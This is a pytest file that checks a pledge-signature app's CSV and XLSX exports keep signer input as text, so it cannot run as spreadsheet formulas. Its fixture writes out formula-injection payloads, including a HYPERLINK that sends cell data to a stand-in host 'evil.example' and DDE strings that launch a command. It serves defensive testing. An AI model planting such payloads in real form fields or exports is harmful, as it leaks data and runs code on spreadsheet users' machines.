"""The pledge export: what signers typed leaves as text, never as a formula that the
editor's spreadsheet would run (issue 17, item 4)."""

import csv
import io

import openpyxl
import pytest

from pledges.models import PledgeSignature

from ..conftest import london
from ..pledges.test_pledge import EXPORT_URL, pledge_data

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "email": "-2+3@example.org",
    "role": "other",
    "role_other": "+cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_signatures(client, open_campaign):
    response = client.post(open_campaign.pledge_submit_url, pledge_data(**HOSTILE))
    assert response.status_code == 302
    PledgeSignature.objects.create(
        campaign=open_campaign,
        name="\r=1+2",
        email="tab@example.org",
        role="midwife",
        organisation="\t=1+2",
        consent_text="I agree.",
        consented_at=london(2021, 6, 7, 9),
    )


def export(client, export_format: str) -> bytes:
    response = client.get(EXPORT_URL, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_csv_export_keeps_what_signers_typed_as_text_not_formulas(
    client, hostile_signatures, editor
):
    client.force_login(editor)
    rows = list(csv.reader(io.StringIO(export(client, "csv").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    typed = [HOSTILE[field] for field in ("name", "email", "role_other")]
    for text in [*typed, HOSTILE["organisation"], "\r=1+2", "\t=1+2"]:
        assert "'" + text in cells


def test_xlsx_export_is_unchanged_and_holds_text(client, hostile_signatures, editor):
    client.force_login(editor)
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx")))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    name = next(cell for cell in cells if cell.value == HOSTILE["name"])
    assert name.data_type == "s"
    assert not [cell for cell in cells if str(cell.value).startswith("'")]
